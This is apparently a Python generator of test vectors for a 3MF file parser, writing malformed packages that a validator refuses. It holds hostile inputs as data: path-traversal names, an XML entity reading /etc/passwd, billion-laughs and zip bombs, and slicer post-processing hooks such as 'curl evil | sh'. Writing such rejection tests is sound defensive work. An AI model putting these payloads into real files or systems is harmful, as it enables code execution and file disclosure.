"""Make the frozen vectors in this folder. Run once for a format; a new format gets new files beside these.

accepted-*.3mf   read whole; the encrypted ones with consumer.pem, as consumer "shop"
refused-*.3mf    one fault each; refused.json says which words the refusal has in it

python tests/vectors/threemf/make.py
"""

from __future__ import annotations

import base64
import io
import json
import struct
import sys
import zlib
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

HERE = Path(__file__).parent
sys.path[:0] = [str(HERE), str(HERE.parents[1] / "unit" / "vault" / "secure_content")]

import lib3mf_oracle as oracle  # noqa: E402
from rawzip import Raw, central_header, local_header, pack  # noqa: E402

from printright.domain.ids import ContentId, LicenseId  # noqa: E402
from printright.vault.secure_content import Recipient, opc, seal  # noqa: E402
from printright.vault.secure_content.keystore import NAMESPACE  # noqa: E402

CONTENT, LICENSE = ContentId(b"c" * 32), LicenseId(b"l" * 32)
CORE = "http://schemas.microsoft.com/3dmanufacturing/core/2015/02"
MODEL = "3D/3dmodel.model"
MESH = (
    '<mesh><vertices><vertex x="0" y="0" z="0"/><vertex x="10" y="0" z="0"/><vertex x="0" y="10" z="0"/>'
    '<vertex x="0" y="0" z="10"/></vertices><triangles><triangle v1="0" v2="2" v3="1"/><triangle v1="0" v2="1" v3="3"/>'
    '<triangle v1="1" v2="2" v3="3"/><triangle v1="2" v2="0" v3="3"/></triangles></mesh>'
)
ROOT = (
    f'<?xml version="1.0" encoding="UTF-8"?>\n<model unit="millimeter" xml:lang="en-US" xmlns="{CORE}"><resources>'
    f'<object id="1" type="model">{MESH}</object></resources><build><item objectid="1"/></build></model>\n'
).encode()
TYPES = opc.types_xml([(MODEL, opc.MODEL_TYPE)])
RELS = opc.rels_xml([(opc.START_PART, MODEL)])
REFUSED: dict[str, str] = {}


def basic(root: bytes = ROOT, **parts: bytes) -> list[Raw]:
    """The items of a small plain 3MF, and what `parts` adds (`__` stands for a slash, `_dot_` for a dot)."""
    return [Raw(b"[Content_Types].xml", TYPES), Raw(b"_rels/.rels", RELS), Raw(MODEL.encode(), root)] + [
        Raw(name.replace("__", "/").replace("_dot_", ".").encode(), data) for name, data in parts.items()
    ]


def changed(place: int, **fields: object) -> list[Raw]:
    items = basic()
    for name, value in fields.items():
        setattr(items[place], name, value)
    return items


def accepted(name: str, data: bytes) -> None:
    (HERE / f"accepted-{name}.3mf").write_bytes(data)


def refused(name: str, words: str, data: bytes) -> None:
    (HERE / f"refused-{name}.3mf").write_bytes(data)
    REFUSED[f"refused-{name}"] = words


def zips() -> None:
    accepted("plain", pack(basic()))
    accepted("stored", pack([Raw(i.name, i.data, method=0) for i in basic()]))
    item = Raw(MODEL.encode(), ROOT, flags=8, local={"crc": 0, "packed": 0, "size": 0})
    item.after = b"PK\x07\x08" + struct.pack("<LLL", zlib.crc32(ROOT), len(item.body()), len(ROOT))
    accepted("data-descriptor", pack([*basic()[:2], item]))
    accepted("folder-entries", pack([Raw(b"3D/", b"", method=0), *basic()]))
    accepted("growth-hint", pack(changed(1, local={"extra": struct.pack("<HHHH", 0xA220, 4, 0xA028, 0)})))
    accepted("byte-order-mark", pack(basic(b"\xef\xbb\xbf" + ROOT)))
    accepted(
        "empty-post-process", pack(basic(Metadata__Slic3r_PE_dot_config=b"; post_process = \n; layer_height = 0.2\n"))
    )
    lying = Raw(MODEL.encode(), ROOT, flags=8, local={"crc": 0, "packed": 0, "size": 0})
    lying.after = b"PK\x07\x08" + struct.pack("<LLL", zlib.crc32(ROOT), len(lying.body()), len(ROOT) + 1)
    refused("descriptor-lies", "data descriptor", pack([*basic()[:2], lying]))
    refused("prepended", "does not begin", pack(basic(), prefix=b"#!/bin/sh\n"))
    refused("trailing", "follows the end", pack(basic()) + b"x")
    refused("comment", "follows the end", pack(basic(), comment=b"PK\x05\x06"))
    refused("gap-before-directory", "between the last item", pack(basic(), gap=b"PK\x03\x04"))
    refused("gap-between-items", "does not begin", pack(changed(1, before=b"hidden")))
    refused("several-disks", "several disks", pack(basic(), disk=1))
    refused("counts-differ", "several disks", pack(basic(), here=2))
    refused("entry-not-counted", "goes on behind its last", pack(basic(), count=2, here=2))
    refused("directory-moved", "not where the end record says", pack(basic(), at=0))
    refused("zip64-missing", "zip64", pack(basic(), count=0xFFFF))
    refused("zip64-unasked", "zip64 field", pack(changed(2, central={"extra": struct.pack("<HHQ", 1, 8, len(ROOT))})))
    refused("zip64-short", "zip64 field", pack(changed(2, central={"size": 0xFFFFFFFF})))
    refused("encrypted-entry", "zip's own scheme", pack(changed(2, flags=1)))
    refused("strong-encryption", "zip flags", pack(changed(2, flags=1 << 6)))
    refused(
        "aes-extra",
        "another name, target or key",
        pack(changed(2, central={"extra": struct.pack("<HH7s", 0x9901, 7, b"\2\0AE\3\x08\0")})),
    )
    refused(
        "unicode-path",
        "another name, target or key",
        pack(changed(2, local={"extra": struct.pack("<HHBL4s", 0x7075, 9, 1, 0, b"evil")})),
    )
    refused("broken-extra", "extra fields", pack(changed(2, central={"extra": b"\1\0\xff\xff"})))
    refused("method-lzma", "compressed by method 14", pack(changed(2, method=14)))
    refused("method-bzip2", "compressed by method 12", pack(changed(2, method=12)))
    refused("stored-with-descriptor", "without its size", pack(changed(2, method=0, flags=8)))
    refused("stored-other-size", "stored, but", pack(changed(2, method=0, central={"size": len(ROOT) - 1})))
    refused("symlink", "a link", pack(changed(2, central={"host": 3, "attributes": 0o120777 << 16})))
    refused("device", "a link or a device", pack(changed(2, central={"host": 3, "attributes": 0o060600 << 16})))
    refused(
        "local-name-differs", "something else", pack(changed(2, local={"name": b"3D/other_mod.model"[: len(MODEL)]}))
    )
    refused("local-size-differs", "something else", pack(changed(2, local={"size": 5})))
    refused("local-crc-differs", "something else", pack(changed(2, local={"crc": 5})))
    refused("local-method-differs", "something else", pack(changed(2, local={"method": 0})))
    refused("local-flags-differ", "something else", pack(changed(2, local={"flags": 1 << 11})))
    refused("no-local-header", "no local header", pack(changed(2, local={"magic": b"PK\x03\x05"})))
    refused("overlapping", "overlaps", pack([*basic(), Raw(b"3D/again.model", ROOT, central={"at": 0})]))
    refused("same-bytes-twice", "overlaps", _quoted())
    refused("checksum", "checksum", pack(changed(2, local={"crc": 5}, central={"crc": 5})))
    refused("size-too-small", "inflates to more", pack(changed(2, local={"size": 9}, central={"size": 9})))
    big = len(ROOT) + 9
    refused("size-too-large", "its header says", pack(changed(2, local={"size": big}, central={"size": big})))
    refused("broken-deflate", "no valid deflate", pack(changed(2, packed=b"\xff" * 40)))
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    cut = engine.compress(ROOT) + engine.flush()
    refused("deflate-cut", "ends before", pack(changed(2, packed=cut[:-4])))
    refused("deflate-goes-on", "goes on behind", pack(changed(2, packed=cut + b"more")))
    refused("bomb-ratio", "swells", pack([*basic(), Raw(b"3D/zeros.bin", bytes(4 << 20))]))
    refused(
        "bomb-declared",
        "more than",
        pack(changed(2, central={"size": 0xFFFFFFF0, "packed": 10}, local={"size": 0xFFFFFFF0, "packed": 10})),
    )
    refused("no-zip", "too short", b"solid knob\n")
    refused("empty", "too short", b"")
    refused("no-content-types", "[Content_Types].xml", pack(basic()[1:]))
    refused("no-relationships", "_rels/.rels", pack([basic()[0], basic()[2]]))


def _quoted() -> bytes:
    # An item whose data covers the next item whole: the inner one is seen by who reads the directory only.
    items = basic()
    inner = Raw(b"3D/inner.bin", b"inner", method=0)
    inner_bytes = local_header(inner) + inner.data
    outer = Raw(b"3D/outer.bin", inner_bytes, method=0)
    out = bytearray(b"".join(local_header(i) + i.body() for i in items))
    at, directory = 0, bytearray()
    for item in items:
        directory += central_header(item, at)
        at += len(local_header(item) + item.body())
    directory += central_header(outer, at) + central_header(inner, at + len(local_header(outer)))
    out += local_header(outer) + inner_bytes
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 5, 5, len(directory), len(out), 0)
    return bytes(out + directory + end)


def names() -> None:
    for name, path in {
        "dot-dot": b"../evil.txt", "dot-dot-inside": b"3D/../../evil.txt", "absolute": b"/etc/passwd",
        "drive": b"C:/evil.txt", "backslash": b"3D\\evil.txt", "dot": b"3D/./x.txt", "empty-segment": b"3D//x.txt",
        "percent-dot-dot": b"3D/%2e%2e/x.txt", "percent-slash": b"3D%2fx.txt", "trailing-dot": b"3D/x.",
        "nul": b"3D/x\0.txt", "newline": b"3D/x\n.txt", "not-utf8": b"3D/\xff.txt", "too-long": b"3D/" + b"x" * 600,
        "empty-name": b"", "reversed": "3D/\u202etxt.x".encode(), "piece": b"3D/x.txt/[0].piece",
    }.items():  # fmt: skip
        words = "not in UTF-8" if name == "not-utf8" else "not a name of a part"
        refused(f"name-{name}", words, pack([*basic(), Raw(path, b"x", flags=0 if path.isascii() else 1 << 11)]))
    refused("name-doubled", "there twice", pack([*basic(), basic()[2]]))
    refused("name-doubled-by-case", "there twice", pack([*basic(), Raw(b"3d/3DMODEL.model", ROOT)]))
    refused("name-part-and-folder", "is a part and the folder", pack([*basic(), Raw(b"3D", b"x")]))
    refused("nested-zip", "archive inside", pack([*basic(), Raw(b"Metadata/more.zip", b"x")]))
    refused(
        "nested-zip-by-content",
        "archive inside",
        pack([*basic(), Raw(b"Metadata/picture.png", pack(basic()), method=0)]),
    )


def xml() -> None:
    def root(old: str, new: str) -> bytes:
        assert old in ROOT.decode()
        return pack(basic(ROOT.decode().replace(old, new, 1).encode()))

    prolog = '<?xml version="1.0" encoding="UTF-8"?>\n'
    laughs = '<!DOCTYPE model [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>\n'
    refused("xml-billion-laughs", "document type", root(prolog, prolog + laughs))
    refused(
        "xml-external-entity",
        "document type",
        root(prolog, prolog + '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
    )
    refused("xml-doctype", "document type", root(prolog, prolog + "<!DOCTYPE model>\n"))
    refused(
        "xml-external-dtd",
        "document type",
        root(prolog, prolog + '<!DOCTYPE model SYSTEM "http://example.org/x.dtd">\n'),
    )
    refused("xml-unknown-entity", "not well-formed", root("millimeter", "&milli;"))
    refused("xml-instruction", "processing instruction", root("<resources>", '<?xml-stylesheet href="x"?><resources>'))
    refused("xml-deep", "nested", root("<mesh>", "<x>" * 70 + "</x>" * 70 + "<mesh>"))
    refused("xml-deep-in-mesh", "nested", root("<vertices>", "<vertices>" + "<x>" * 70 + "</x>" * 70))
    refused("xml-doubled-attribute", "not well-formed", root('objectid="1"', 'objectid="1" objectid="2"'))
    refused(
        "xml-doubled-by-prefix",
        "not well-formed",
        root('objectid="1"', 'objectid="1" xmlns:a="u" xmlns:b="u" a:x="1" b:x="2"'),
    )
    refused(
        "xml-many-attributes",
        "attributes",
        root("<resources>", "<resources" + "".join(f" a{n}=''" for n in range(70)) + ">"),
    )
    refused("xml-wrong-namespace", "no 3MF model", root(CORE, "http://schemas.example.org/core"))
    refused("xml-cut", "not well-formed", root("</model>", ""))
    refused("xml-two-builds", "two builds", root("<build>", "<build/><build>"))
    refused("xml-no-build", "no build", root('<build><item objectid="1"/></build>', ""))
    refused("xml-version-1-1", "XML 1.0", root('version="1.0"', 'version="1.1"'))
    refused("xml-latin-1", "UTF-8", root("UTF-8", "ISO-8859-1"))
    refused("xml-utf-16", "UTF-8", pack(basic(ROOT.decode().replace("UTF-8", "UTF-16").encode("utf-16"))))
    refused("xml-bad-utf8", "not well-formed", pack(basic(ROOT.replace(b"millimeter", b"milli\xff"))))
    refused("xml-undeclared-prefix", "not well-formed", root("<mesh>", "<q:mesh/><mesh>"))
    refused("xml-requires-unknown-prefix", "does not declare", root("<model ", '<model requiredextensions="zz" '))
    refused("xml-object-without-number", "without a number", root('objectid="1"', 'objectid="-1"'))


def relations() -> None:
    def rels(target: str, extra: str = "") -> bytes:
        more = f'<Relationship Id="r9" Type="urn:x" Target="{target}"{extra}/></Relationships>'
        items = basic()
        items[1] = Raw(b"_rels/.rels", RELS.replace(b"</Relationships>", more.encode()))
        return pack(items)

    refused("target-outside", "leads out", rels("../../evil.model"))
    refused("target-url", "leads out", rels("http://example.org/x.model"))
    refused("target-external", "leads out", rels("http://example.org/", ' TargetMode="External"'))
    refused("target-missing", "not there", rels("/3D/missing.model"))
    refused("target-query", "leads out", rels("/3D/3dmodel.model?x"))
    refused("target-relationships", "not there", rels("/_rels/.rels"))
    refused("relationship-id-doubled", "two relationships", _same_id())
    refused(
        "types-doubled",
        "says twice",
        pack(
            [
                Raw(
                    b"[Content_Types].xml",
                    TYPES.replace(b"</Types>", b'<Default Extension="rels" ContentType="x"/></Types>'),
                ),
                *basic()[1:],
            ]
        ),
    )
    refused(
        "types-wrong-namespace",
        "begins with",
        pack([Raw(b"[Content_Types].xml", TYPES.replace(b"content-types", b"other")), *basic()[1:]]),
    )
    refused("two-models", "not one", _two_models())
    refused(
        "model-of-another-type",
        "content type is another",
        pack([Raw(b"[Content_Types].xml", opc.types_xml([(MODEL, "text/plain")])), *basic()[1:]]),
    )


def _same_id() -> bytes:
    items = basic()
    items[1] = Raw(
        b"_rels/.rels",
        RELS.replace(
            b"</Relationships>", f'<Relationship Id="rel0" Type="urn:x" Target="/{MODEL}"/></Relationships>'.encode()
        ),
    )
    return pack(items)


def _two_models() -> bytes:
    items = basic(**{"3D__b_dot_model": ROOT})
    items[0] = Raw(b"[Content_Types].xml", opc.types_xml([(MODEL, opc.MODEL_TYPE), ("3D/b.model", opc.MODEL_TYPE)]))
    items[1] = Raw(b"_rels/.rels", opc.rels_xml([(opc.START_PART, MODEL), (opc.START_PART, "3D/b.model")]))
    return pack(items)


def scripts() -> None:
    for name, part, data in (
        ("prusaslicer", "Metadata__Slic3r_PE_dot_config", b"; post_process = /tmp/evil.sh\n"),
        ("orca-json", "Metadata__project_settings_dot_config", b'{"post_process": ["", "curl evil | sh"]}'),
        ("orca-json-escaped", "Metadata__project_settings_dot_config", b'{"post\\u005fprocess": ["curl evil | sh"]}'),
        (
            "orca-xml",
            "Metadata__model_settings_dot_config",
            b'<config><metadata key="post_process" value="evil.sh"/></config>',
        ),
        (
            "orca-xml-escaped",
            "Metadata__model_settings_dot_config",
            b'<config><metadata key="post&#95;process" value="evil.sh"/></config>',
        ),
        ("orca-json-broken", "Metadata__project_settings_dot_config", b'{"post_process": ["evil"],,}'),
        ("cura", "Cura__machine_dot_global_dot_cfg", b"[metadata]\npost_processing_scripts = [SearchAndReplace]\n"),
    ):
        words = "no valid JSON" if name == "orca-json-broken" else "post-processing script"
        refused(f"script-{name}", words, pack(basic(**{part: data})))
    refused("settings-not-utf8", "not in UTF-8", pack(basic(Metadata__x_dot_config=b"\xff\xfe")))
    refused(
        "settings-xml-entities",
        "document type",
        pack(basic(Metadata__x_dot_config=b'<!DOCTYPE a [<!ENTITY b "c">]><a/>')),
    )


def secure(key: rsa.RSAPrivateKey) -> None:
    source = io.BytesIO(pack(basic()))
    other = rsa.generate_private_key(65537, 2048)

    def made(**options: object) -> bytes:
        target = io.BytesIO()
        seal(source, target, [Recipient("other", other.public_key()), Recipient("shop", key.public_key(), "k1")],
             content=CONTENT, license_id=LICENSE, **options)  # type: ignore[arg-type]  # fmt: skip
        return target.getvalue()

    accepted("secure-compressed", made())
    accepted("secure-uncompressed", made(compress=False))
    publics = {"other": other.public_key(), "shop": key.public_key()}
    accepted("secure-lib3mf", oracle.write(oracle.TETRAHEDRON, publics, compressed=True, parts=2))
    accepted(
        "secure-lib3mf-uncompressed-sha1", oracle.write(oracle.TETRAHEDRON, publics, compressed=False, digest="SHA1")
    )

    parts = _parts(made())
    part = "3D/Objects/part_1.model"
    store = parts["Secure/keystore.xml"].decode()

    def with_store(old: str, new: str) -> bytes:
        assert old in store, old
        return _packed(parts | {"Secure/keystore.xml": store.replace(old, new, 1).encode()})

    def with_part(name: str, data: bytes) -> bytes:
        return _packed(parts | {name: data})

    body = parts[part]
    refused("secure-part-bit", "does not authenticate", with_part(part, body[:40] + bytes([body[40] ^ 1]) + body[41:]))
    refused("secure-part-cut", "does not authenticate", with_part(part, body[:-1]))
    refused("secure-part-longer", "does not authenticate", with_part(part, body + b"\0"))
    refused("secure-part-empty", "ends in its header", with_part(part, b""))
    refused("secure-part-plain", "is not", with_part(part, ROOT))
    refused("secure-part-other-files", "does not authenticate", with_part(part, _parts(made())[part]))
    refused("secure-part-missing", "not there", _packed({n: d for n, d in parts.items() if n != part}))
    refused("secure-header-version", "version", with_part(part, body[:5] + b"\1" + body[6:]))
    refused("secure-header-unused", "version", with_part(part, body[:7] + b"\1" + body[8:]))
    refused("secure-header-short", "version", with_part(part, body[:8] + struct.pack("<L", 11) + body[12:]))
    refused("secure-header-huge", "version", with_part(part, body[:8] + struct.pack("<L", 1 << 31) + body[12:]))
    refused(
        "secure-header-longer", "does not authenticate", with_part(part, body[:8] + struct.pack("<L", 13) + body[12:])
    )
    scaled = parts[MODEL].decode().replace('objectid="1"', 'objectid="1" transform="2 0 0 0 2 0 0 0 2 0 0 0"', 1)
    refused("secure-root-altered", "not encrypted were altered", with_part(MODEL, scaled.encode()))
    refused("secure-clear-part-added", "not encrypted were altered", with_part("Metadata/note.bin", b"hello"))

    aad = _between(store, "<aad>", "</aad>")
    bound = base64.b64decode(aad)

    def aad_of(data: bytes) -> bytes:
        return with_store(aad, base64.b64encode(data).decode())

    refused("secure-aad-other-content", "keyuuid", aad_of(bound.replace(CONTENT, b"d" * 32)))
    refused("secure-aad-other-license", "keyuuid", aad_of(bound.replace(LICENSE, b"m" * 32)))
    refused("secure-aad-other-path", "bound to something else", aad_of(bound + b"x"))
    refused("secure-aad-cut", "cut off", aad_of(bound[:40]))
    refused("secure-aad-gone", "does not authenticate", with_store(f"<aad>{aad}</aad>", ""))
    uuid = _between(store, 'keyuuid="', '"')
    refused("secure-keyuuid-other", "keyuuid", with_store(uuid, "00000000-0000-4000-8000-000000000000"))
    refused("secure-keyuuid-upper", "lower-case UUID", with_store(uuid, uuid.upper()))
    refused("secure-compression-other", "bound to something else", with_store('"deflate"', '"none"'))
    refused("secure-compression-unknown", "another method", with_store('"deflate"', '"brotli"'))
    refused("secure-algorithm-unknown", "another algorithm", with_store("#aes256-gcm", "#aes256-cbc"))
    refused("secure-iv-short", "nonce of 96 bits", with_store(_between(store, "<iv>", "</iv>"), "AAAA"))
    tag = _between(store, "<tag>", "</tag>")
    refused(
        "secure-tag-short", "tag of 128 bits", with_store(tag, base64.b64encode(base64.b64decode(tag)[:12]).decode())
    )
    refused("secure-tag-other", "does not authenticate", with_store(tag, base64.b64encode(bytes(16)).decode()))
    refused("secure-tag-doubled", "two values", with_store("<tag>", f"<tag>{tag}</tag><tag>"))
    refused("secure-not-base64", "no base64", with_store(tag, "?" + tag[1:]))
    unknown = store.replace("http://www.w3.org/2009/xmlenc11#rsa-oaep", "http://www.w3.org/2001/04/xmlenc#rsa-1_5")
    refused(
        "secure-wrapping-unknown",
        "algorithm that we do not know",
        _packed(parts | {"Secure/keystore.xml": unknown.encode()}),
    )
    refused("secure-consumer-twice", "consumer twice", with_store('consumerid="other"', 'consumerid="shop"'))
    refused("secure-consumer-csi", "cannot be shown", with_store('consumerid="other"', 'consumerid="o\u009b31m"'))
    refused("secure-consumer-reversed", "cannot be shown", with_store('keyid="k1"', 'keyid="\u202ek1"'))
    refused("secure-index-too-high", "consumer that is not there", with_store('consumerindex="1"', 'consumerindex="2"'))
    refused("secure-index-doubled", "twice to one", with_store('consumerindex="1"', 'consumerindex="0"'))
    refused("secure-index-no-number", "no number", with_store('consumerindex="1"', 'consumerindex="-1"'))
    data = "<resourcedata " + _between(store, "<resourcedata ", "</resourcedata>") + "</resourcedata>"
    refused("secure-path-twice", "a part twice", with_store(data, data + data))
    refused("secure-path-by-case", "a part twice", with_store(data, data + data.replace("part_1", "PART_1")))
    refused("secure-nonce-twice", "nonce twice", with_store(data, data + data.replace("part_1", "part_2")))
    refused("secure-path-outside", "not a name", with_store("/3D/Objects/part_1.model", "/3D/../../x.model"))
    refused(
        "secure-path-relative", "begin with a slash", with_store("/3D/Objects/part_1.model", "3D/Objects/part_1.model")
    )
    refused("secure-root-encrypted", "must not be encrypted", with_store("/3D/Objects/part_1.model", f"/{MODEL}"))
    refused("secure-wrong-namespace", "begins with", with_store(NAMESPACE, NAMESPACE.replace("2019", "2018")))
    refused("secure-child-namespace", "no encrypted part", with_store("<resourcedata ", '<resourcedata xmlns="urn:x" '))
    refused("secure-unknown-element", "do not know", with_store("<iv>", "<evil/><iv>"))
    refused(
        "secure-unknown-attribute", "has 'evil'", with_store('compression="deflate"', 'compression="deflate" evil="1"')
    )
    refused("secure-uuid-missing", "lacks 'UUID'", with_store(' UUID="', ' xmlns:q="urn:q" q:UUID="'))
    refused("secure-nothing-encrypted", "no encrypted part", with_store(data, ""))
    refused("secure-entities", "document type", with_store("<keystore ", '<!DOCTYPE k [<!ENTITY a "b">]><keystore '))
    rels = parts["3D/_rels/3dmodel.model.rels"]
    refused(
        "secure-relationship-gone",
        "but not by both",
        with_part("3D/_rels/3dmodel.model.rels", rels.replace(b"encryptedfile", b"otherfile")),
    )


def _between(text: str, left: str, right: str) -> str:
    return text.split(left, 1)[1].split(right, 1)[0]


def _parts(data: bytes) -> dict[str, bytes]:
    package = opc.OpcPackage(io.BytesIO(data))
    return {name: package.container.read(name, 1 << 20) for name in package.container.parts}


def _packed(parts: dict[str, bytes]) -> bytes:
    return pack([Raw(name.encode(), data) for name, data in parts.items()])


def main() -> None:
    path = HERE / "consumer.pem"
    if not path.exists():
        key = rsa.generate_private_key(65537, 2048)
        form = serialization.PrivateFormat.PKCS8
        path.write_bytes(key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()))
    loaded = serialization.load_pem_private_key(path.read_bytes(), None)
    assert isinstance(loaded, rsa.RSAPrivateKey)
    for make in (zips, names, xml, relations, scripts):
        make()
    secure(loaded)
    (HERE / "refused.json").write_text(json.dumps(dict(sorted(REFUSED.items())), indent=1) + "\n")


if __name__ == "__main__":
    main()
